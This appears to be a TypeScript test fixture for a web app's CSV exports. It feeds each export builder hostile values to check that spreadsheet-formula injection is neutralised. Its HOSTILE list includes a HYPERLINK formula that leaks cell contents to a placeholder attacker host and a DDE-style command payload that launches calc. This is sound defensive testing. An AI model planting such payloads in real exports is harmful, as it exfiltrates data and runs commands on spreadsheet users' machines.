import type { QueryClient } from '@tanstack/react-query';
import type { AuditCheck } from '../api/audit-schemas.ts';
import { ledgerCsv } from '../features/account/spend-view.ts';
import { activityCsv } from '../features/activity/activity-view.ts';
import { comparisonCsv, promptsCsv, rankingsCsv, statisticsCsv } from '../features/ai/ai-csv.ts';
import { compareCsv, snapshotCsv } from '../features/audits/history/history-csv.ts';
import {
  auditListCsv,
  checksCsv,
  checkUrlsCsv,
  linksCsv,
  pageIssuesCsv,
  pagesCsv,
} from '../features/audits/shared/audits-csv.ts';
import { backlinksCsv } from '../features/backlinks/csv-columns.ts';
import { exportAnchors, exportDomains, exportReports } from '../features/backlinks/exports.ts';
import { topAnchorsCsv, topDomainsCsv } from '../features/backlinks/overview-csv.ts';
import { groupsCsv } from '../features/groups/groups-csv.ts';
import { COLUMN_LABELS, type ColumnId } from '../features/keywords/columns.ts';
import { keywordsCsv } from '../features/keywords/keywords-csv.ts';
import { planCsv } from '../features/plan/plan-csv.ts';
import { positionsTable } from '../features/positions/positions-csv.ts';
import {
  backlinkFiguresCsv,
  movesCsv,
  planProgressCsv,
  topChecksCsv,
} from '../features/reports/report-csv.ts';
import { archivedCsv, standardCsv, tasksCsv } from '../features/serp/serp-csv.ts';
import { toCsv } from '../lib/csv.ts';
import type { CsvTable } from '../lib/csv-table.ts';

// Every export fed third-party text that a spreadsheet would run: a formula hidden behind a line break, each
// formula sign, and the whitespace spreadsheet tools skip before one.
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"x")\nline2',
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  ' =1',
  "\n=cmd|' /C calc'!A0",
];

/** Fixtures name only the fields a builder reads; their types are the client's parsed ones. */
export const loose = <T>(v: unknown) => v as T;
const NOW = Date.UTC(2026, 10, 20, 12);
const csvOf = (t: CsvTable) => toCsv(t.header, t.rows);
const client = (page: unknown) => loose<QueryClient>({ fetchQuery: () => Promise.resolve(page) });
const range = (h: string) => loose<Parameters<typeof rankingsCsv>[2]>({ from: h, to: h, top: 10 });
const check = (h: string) => ({ code: h, name: h, status: h, value: 3 });
const checks = (h: string) => new Map([[h, loose<AuditCheck>(check(h))]]);

/**
 * Every CSV the app writes, by the function that builds it; each returns the file's text for one hostile value
 * put in every text field. A producer of a CSV table that is not listed here fails the census in
 * src/csv-exports.test.ts.
 */
export const EXPORTS: Record<string, (h: string) => string | Promise<string>> = {
  promptsCsv: (h) =>
    csvOf(
      promptsCsv(
        1,
        2,
        loose([
          { keyword: h, keyword_id: 3, k2site_llm_id: 4, site_llm_id: 2, search_volume: 10, intent: h },
        ]),
        { limit: 10, offset: 0 },
        NOW,
      ),
    ),
  rankingsCsv: (h) =>
    csvOf(
      rankingsCsv(
        [h],
        loose([
          {
            keyword: h,
            keyword_id: 3,
            search_volume: 10,
            search_intent: [h, h],
            positions: [
              {
                date: h,
                url_position: -1,
                urls_count: 1,
                mention_position: 1,
                mentions_count: 1,
                organic_overlap: 1,
                organic_overlap_percent: 5,
              },
            ],
          },
          { keyword: h, keyword_id: 4, search_volume: null, search_intent: null, positions: [] },
        ]),
        range(h),
        NOW,
      ),
    ),
  statisticsCsv: (h) =>
    csvOf(
      statisticsCsv(
        1,
        2,
        loose({
          presence: { link_percent_in_top: 1, link_diff: -2, mention_percent_in_top: 1, mention_diff: 1 },
          aio_presence: { keywords_with_aio: 1, keywords_with_aio_diff: 1 },
          organic_overlap: { overlap_count: 1, overlap_count_diff: 1, overlap_percent: 1 },
          sources_presence: { answers_with_sources: 1, answers_with_sources_diff: 1 },
          stats: { indexed_percent: 1, keywords_count: 1, last_update: h },
          top: 10,
        }),
        range(h),
        NOW,
      ),
    ),
  comparisonCsv: (h) =>
    csvOf(
      comparisonCsv(
        1,
        [{ engineId: 2, label: h, link: 1, mention: 1, linkDiff: -1, mentionDiff: 1 }],
        range(h),
        NOW,
      ),
    ),
  exportReports: async (h) =>
    csvOf(
      await exportReports(
        client({
          reports: [{ id: 1, target: h, mode: h, backlinks: 1, refdomains: 1, created: h }],
          total_reports: 1,
        }),
        h,
      ),
    ),
  // one builder serves the domains and the anchors lists: both are fed the text
  exportReportList: async (h) =>
    [
      csvOf(
        await exportDomains(
          client({
            domains: [{ id: 1, domain: h, domain_inlink_rank: 1, backlinks: 1, first_seen: h, lost_date: h }],
            total_domains: 1,
          }),
          loose(h),
          h,
        ),
      ),
      csvOf(
        await exportAnchors(
          client({
            anchors: [
              {
                id: 1,
                anchor: h,
                domains: 1,
                backlinks: 1,
                first_seen: h,
                last_visited: h,
                dofollow: 1,
                words: 1,
              },
            ],
            total_anchors: 1,
          }),
          loose(h),
          h,
        ),
      ),
    ].join('\n'),
  backlinksCsv: (h) =>
    csvOf(
      backlinksCsv(
        loose([
          {
            id: h,
            url: h,
            title: h,
            anchor_id: 1,
            domain_id: 1,
            image: h,
            nofollow: false,
            inlink_rank: 1,
            first_seen: h,
            last_visited: h,
            page_id: 1,
            ugc: h,
            sponsored: h,
            lost_date: h,
            anchor: h,
            url_to: h,
            domain_inlink_rank: 1,
          },
        ]),
        h,
        h,
        NOW,
      ),
    ),
  topDomainsCsv: (h) => csvOf(topDomainsCsv(overview(h), NOW)),
  topAnchorsCsv: (h) =>
    csvOf(topAnchorsCsv(overview(h), 'links', NOW)) + csvOf(topAnchorsCsv(overview(h), 'domains', NOW)),
  keywordsCsv: (h) =>
    keywordsCsv(
      [
        {
          id: h,
          keyword: h,
          volume: 1,
          cpc: 1,
          difficulty: 1,
          competition: 1,
          intents: [h, h],
          serp_features: [h],
          relevance: 1,
          history_trend: { [h]: 1, '2026-10-01': -1 },
          noData: false,
        },
      ],
      {
        source: h,
        date: h,
        // every column a result can show, so each cell is written
        columns: Object.keys(COLUMN_LABELS) as ColumnId[],
        readAt: NOW,
      },
    ),
  planCsv: (h) =>
    csvOf(
      planCsv(
        1,
        loose([
          {
            id: h,
            title: h,
            items_checked: 1,
            items_count: 2,
            items: [
              { id: h, title: h, checked: true },
              { id: 2, title: h, checked: false },
            ],
          },
        ]),
        'all',
        NOW,
      ),
    ),
  groupsCsv: (h) => csvOf(groupsCsv(loose([{ name: h, id: 1 }]), NOW)),
  positionsTable: (h) =>
    csvOf(
      positionsTable(
        loose([
          {
            keyword: h,
            location_id: 1,
            language_code: h,
            device: h,
            tags: [h, h],
            day: h,
            position: 3,
            url: h,
            change1: { kind: 'moved', by: -2 },
            change7: { kind: 'entered' },
            change30: null,
            best: 1,
          },
        ]),
        { domain: h, locationName: () => h, readAt: NOW },
      ),
    ),
  tasksCsv: (h) =>
    csvOf(
      tasksCsv(
        loose([{ id: 1, query: h, location_id: 2, language_code: h, is_completed: true, added: h }]),
        new Map([[1, { device: h, tag: h, locationName: h }]]),
        new Map([['2', h]]),
        NOW,
      ),
    ),
  standardCsv: (h) =>
    csvOf(
      standardCsv(
        1,
        loose({ keyword: h, device: h, location_id: 2, language_code: h, crawled_at: h }),
        loose([
          {
            rank_absolute: 1,
            rank_group: 1,
            type: h,
            position: h,
            domain: h,
            url: h,
            title: h,
            description: h,
            breadcrumb: h,
            highlighted_terms: [h],
            serp_features: [h],
            links: [{ url: h, title: h }],
          },
        ]),
        NOW,
      ),
    ),
  archivedCsv: (h) =>
    csvOf(
      archivedCsv(
        loose([
          {
            task_id: 1,
            keyword: h,
            device: h,
            language_code: h,
            location_id: 2,
            crawled_at: h,
            kinds: [h, h],
            stored_at: h,
          },
        ]),
        NOW,
      ),
    ),
  auditListCsv: (h) =>
    csvOf(
      auditListCsv(
        loose([
          {
            id: 1,
            title: h,
            url: h,
            site_id: 1,
            group_id: 1,
            status: h,
            stats: { score: 1 },
            prev_stats: null,
            last_update: h,
          },
        ]),
        1,
        NOW,
      ),
    ),
  checksCsv: (h) =>
    csvOf(checksCsv(1, loose({ sections: [{ name: h, props: { [h]: check(h) } }], audit_time: h }), NOW)),
  checkUrlsCsv: (h) => csvOf(checkUrlsCsv(1, h, loose(check(h)), [h, h], 2, NOW)),
  pagesCsv: (h) =>
    csvOf(
      pagesCsv(
        1,
        loose([{ url: h, title: h, h1: h, status: 200, meta: { [h]: h } }]),
        ['url', 'title', 'h1', 'status', 'meta'],
        h,
        NOW,
      ),
    ),
  pageIssuesCsv: (h) =>
    csvOf(
      pageIssuesCsv(
        1,
        h,
        loose([
          { code: h, type: h, group: h, snippet: { type: h, value: [{ [h]: h, text: h }] } },
          { code: h, type: h, group: h, snippet: { type: h, value: [] } },
        ]),
        checks(h),
        NOW,
      ),
    ),
  linksCsv: (h) =>
    csvOf(
      linksCsv(
        1,
        h,
        loose([
          {
            url: h,
            status: h,
            type: h,
            source_url: h,
            anchor: h,
            alt: h,
            anchor_type: h,
            title: h,
            nofollow: h,
            source_noindex: h,
            id: h,
          },
        ]),
        1,
        NOW,
      ),
    ),
  snapshotCsv: (h) =>
    csvOf(
      snapshotCsv(
        1,
        h,
        loose({
          totals: { total_pages: 1, total_errors: 1, total_warnings: 1, total_passed: 1 },
          pages_data: { [h]: 2 },
          audit_time: h,
        }),
        checks(h),
        NOW,
      ),
    ),
  compareCsv: (h) =>
    csvOf(
      compareCsv(
        1,
        loose({
          baseDate: h,
          targetDate: h,
          totals: [{ key: h, label: h, before: 1, after: 2, change: -1 }],
          issues: [{ code: h, before: 1, after: 2, change: 1, kind: h }],
        }),
        checks(h),
        NOW,
      ),
    ),
  movesCsv: (h) =>
    csvOf(
      movesCsv(
        1,
        h,
        {
          gains: [{ keywordId: 1, keyword: h, from: 3, to: 1, change: 2 }],
          losses: [{ keywordId: 2, keyword: h, from: 1, to: 0, change: -100 }],
        },
        range(h),
        NOW,
      ),
    ),
  topChecksCsv: (h) => csvOf(topChecksCsv(1, 2, h, loose([{ ...check(h), section: h }]), NOW)),
  planProgressCsv: (h) =>
    csvOf(
      planProgressCsv(
        1,
        {
          overall: { title: h, checked: 1, count: 2, percent: 50 },
          sections: [{ title: h, checked: 0, count: 0, percent: null }],
        },
        NOW,
      ),
    ),
  backlinkFiguresCsv: (h) =>
    csvOf(
      backlinkFiguresCsv(
        h,
        h,
        [
          [h, 1],
          [h, null],
        ],
        NOW,
      ),
    ),
  ledgerCsv: (h) =>
    csvOf(
      ledgerCsv(
        loose([
          {
            at: h,
            area: h,
            op: h,
            target: h,
            credits: 5,
            estimated: false,
            money_amount: h,
            money_currency: h,
            status: 200,
            outcome: 'ok',
            upper_bound: null,
            pages: null,
            message: h,
          },
        ]),
        NOW,
      ),
    ),
  activityCsv: (h) =>
    csvOf(
      activityCsv(
        loose([
          { at: h, email: h, action: h, operation: h, site_id: 101, credits: 5, outcome: h, detail: h },
        ]),
        { person: h, action: h },
        NOW,
      ),
    ),
};

function overview(h: string) {
  const anchors = [{ anchor: h, count: 1 }];
  return loose<Parameters<typeof topDomainsCsv>[0]>({
    report_id: h,
    target: h,
    domains: { top_domains: [{ domain: h, count: 1, name: h, country: h }] },
    anchors: { top_anchors: { links: anchors, domains: anchors } },
  });
}
